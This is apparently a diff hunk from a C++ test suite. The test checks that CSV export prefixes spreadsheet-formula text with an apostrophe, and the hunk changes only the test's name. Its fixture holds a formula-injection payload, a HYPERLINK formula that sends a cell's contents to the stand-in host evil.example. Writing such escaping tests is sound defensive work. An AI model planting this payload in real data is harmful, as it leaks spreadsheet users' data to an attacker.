@@ -104,7 +104,7 @@ TEST_SUITE("opendata") {
           std::string::npos);
   }
 
-  TEST_CASE("text a spreadsheet would run as a formula gets a leading ' in every CSV; numbers and the JSON stay as they are") {
+  TEST_CASE("text a spreadsheet would run as a formula gets a leading ' in every CSV, numbers and the JSON stay as they are") {
     const std::string hyperlink = R"x(=HYPERLINK("http://evil.example/?x="&A1,"Click"))x";
     const char* plan = R"x({"title": "P", "periods": [{"id": "q1", "label": "Q1", "end": "2022-03-31"}],
       "priorities": [{"id": "p", "title": "+Priority"}],
